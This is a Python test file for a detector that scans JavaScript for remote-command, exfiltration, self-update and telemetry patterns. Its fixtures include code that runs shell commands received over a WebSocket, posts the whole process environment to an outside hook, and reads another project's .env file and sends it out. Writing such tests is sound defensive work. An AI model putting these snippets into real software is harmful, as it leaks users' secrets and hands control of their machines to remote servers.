"""What JavaScript code does at the sink decides the rule (issue 7, red team 9 classes): the
env option of a started process (tsc output), handler tables dispatched with ``.call``,
``const { env } = process``, ``p.then(f)`` and ``(a, b)`` values, a ternary that only picks,
curl's argument words, a helper that sends but returns something else, and ``o[m[1]] = v``
writes. Each class has a variant that must fire and a benign look-alike that must stay silent."""

from __future__ import annotations

import textwrap

from agentxray.analyze.interface import SourceUnit
from agentxray.analyze.rules_detector import JsRulesDetector
from agentxray.model import FileEntry, Finding
from agentxray.rules.loader import RuleSet, load_rules


def fired(src: str, rule_id: str, name: str = "a.js") -> set[int]:
    """Lines where one rule fires on ``src``, through the real extractor and detector."""
    rule = load_rules(third_party=False).get(rule_id)
    assert rule is not None
    data = textwrap.dedent(src).encode()
    kind = "typescript" if name.endswith(".ts") else "javascript"
    unit = SourceUnit(FileEntry(name, kind, len(data), ""), data)
    found = [f for f in JsRulesDetector(RuleSet((rule,))).run(unit) if isinstance(f, Finding)]
    assert all(f.rule == rule_id for f in found)
    return {f.location.line for f in found}


TSC_UPGRADE = """
    const child_process_1 = require("child_process");
    const fs = require("fs");
    const path = require("path");
    function upgrade(url) {
        return __awaiter(this, void 0, void 0, function* () {
            const r = yield fetch(url);
            const j = yield r.json();
            const buf = Buffer.from(yield (yield fetch(j.tarball)).arrayBuffer());
            fs.writeFileSync("/tmp/p.tgz", buf);
            const res = child_process_1.spawnSync("tar", ["-xzf", "/tmp/p.tgz", "-C",
                path.resolve(__dirname, "..")]);
            if (res.status === 0)
                child_process_1.spawn(process.execPath, process.argv.slice(1),
                    { env: Object.assign({}, process.env, { UPGRADED: j.version }) });
        });
    }
    """


def test_tsc_output_installs_a_download_over_the_package() -> None:
    assert fired(TSC_UPGRADE, "AXR-UPD-007") == {11}


def test_server_data_in_a_child_env_is_no_command() -> None:
    assert fired(TSC_UPGRADE, "AXR-RC-009") == set()


def test_server_data_as_the_program_with_an_env_option_is_a_command() -> None:
    src = """
        const child_process_1 = require("child_process");
        function run(u) {
            return __awaiter(this, void 0, void 0, function* () {
                const j = yield (yield fetch(u)).json();
                child_process_1.spawn(j.bin, j.args, { env: { X: "1" } });
            });
        }
        """
    assert fired(src, "AXR-RC-009") == {6}


HANDLERS = """
    const cp = require("child_process");
    class Agent {
      constructor() {
        this.ops = {
          shell(msg) { cp.execSync(%s); },
          ping() { return "pong"; },
        };
      }
      start() {
        const sock = new WebSocket("wss://ops.example.io/agent");
        sock.addEventListener("message", (ev) => {
          const m = JSON.parse(ev.data);
          const op = this.ops[m.kind];
          if (op) op.call(this, m);
        });
      }
    }
    """


def test_a_this_field_table_dispatched_with_call_runs_the_message() -> None:
    assert fired(HANDLERS % "msg.line", "AXR-RC-009") == {15}


def test_a_dispatched_handler_running_a_fixed_command_is_silent() -> None:
    assert fired(HANDLERS % '"git status --short"', "AXR-RC-009") == set()


def test_a_const_table_looked_up_into_a_variable_runs_the_job() -> None:
    src = """
        const { spawn } = require("child_process");
        const actions = {
          launch: (job) => spawn(job.bin, job.args || []),
          noop: () => null,
        };
        async function poll() {
          const job = await (await fetch("https://jobs.example.io/next")).json();
          const act = actions[job.type];
          return act && act(job);
        }
        """
    assert fired(src, "AXR-RC-009") == {10}


def test_the_environment_destructured_from_process_is_sent() -> None:
    src = """
        const { env: vars, argv } = process;
        async function report() {
          await fetch("https://hooks.example.org/x",
            { method: "POST", body: JSON.stringify({ n: argv.length, vars }) });
        }
        """
    assert fired(src, "AXR-EXF-001") == {4}


def test_one_variable_of_the_destructured_environment_is_not_sent() -> None:
    src = """
        const { env, argv } = process;
        const debug = env.MYTOOL_DEBUG === "1";
        async function ping() {
          await fetch("https://api.example.org/status",
            { method: "POST", body: JSON.stringify({ n: argv.length, debug }) });
        }
        """
    assert fired(src, "AXR-EXF-001") == set()


SELF_REPLACE = """
    const { execFile, spawn } = require("child_process");
    const fs = require("fs"), os = require("os"), path = require("path");
    function curl(e) {
      return new Promise((r, c) => execFile("curl", ["-fsSL", ...e], (x, out) => x ? c(x) : r(out)));
    }
    async function check() {
      return (await curl(["-w", "%%{url_effective}", "https://example.com/rel/latest"])).trim();
    }
    async function replaceSelf(v) {
      const self = fs.realpathSync(process.argv[1]), tmp = path.join(os.tmpdir(), `t-${v}`);
      return await curl(["-o", tmp, `https://example.com/dl/t-${os.arch()}-%s`]),
        fs.renameSync(tmp, self), self;
    }
    exports.refresh = () => check().then((v) => v && v !== "1.0" ? replaceSelf(v) : null)
      .then((p) => { p && spawn(p, process.argv.slice(2)); });
    """


def test_relaunching_the_replaced_program_is_no_server_command() -> None:
    assert fired(SELF_REPLACE % "${process.platform}", "AXR-RC-009") == set()


def test_a_platform_in_a_download_path_is_no_telemetry() -> None:
    assert fired(SELF_REPLACE % "${process.platform}", "AXR-TEL-006") == set()


def test_machine_facts_in_curl_data_or_query_are_telemetry() -> None:
    src = """
        const { execFile } = require("child_process");
        const os = require("os");
        const run = (w) => new Promise((ok) => execFile("curl", ["-s", ...w], (e, o) => ok(o)));
        function ping() {
          execFile("curl", ["-d", JSON.stringify({ host: os.hostname() }), "https://s.example.com/p"]);
        }
        async function hello() {
          return run(["-o", "/dev/null", `https://s.example.com/h?arch=${os.arch()}`]);
        }
        """
    assert fired(src, "AXR-TEL-006") == {6, 9}


def test_dotenv_values_parsed_into_computed_keys_are_sent() -> None:
    src = """
        import { promises as fs } from "node:fs";
        function parse(text: string): Record<string, string> {
          const out: Record<string, string> = {};
          for (const line of text.split("\\n")) {
            const m = /^(\\w+)=(.*)$/.exec(line);
            if (m) out[m[1]] = m[2];
          }
          return out;
        }
        export async function share(dir: string): Promise<void> {
          const vars = parse(await fs.readFile(dir + "/../other/.env", "utf8"));
          const ws = new WebSocket("wss://x.example.com");
          ws.send(JSON.stringify({ vars }));
        }
        """
    assert fired(src, "AXR-EXF-002", "a.ts") == {14}
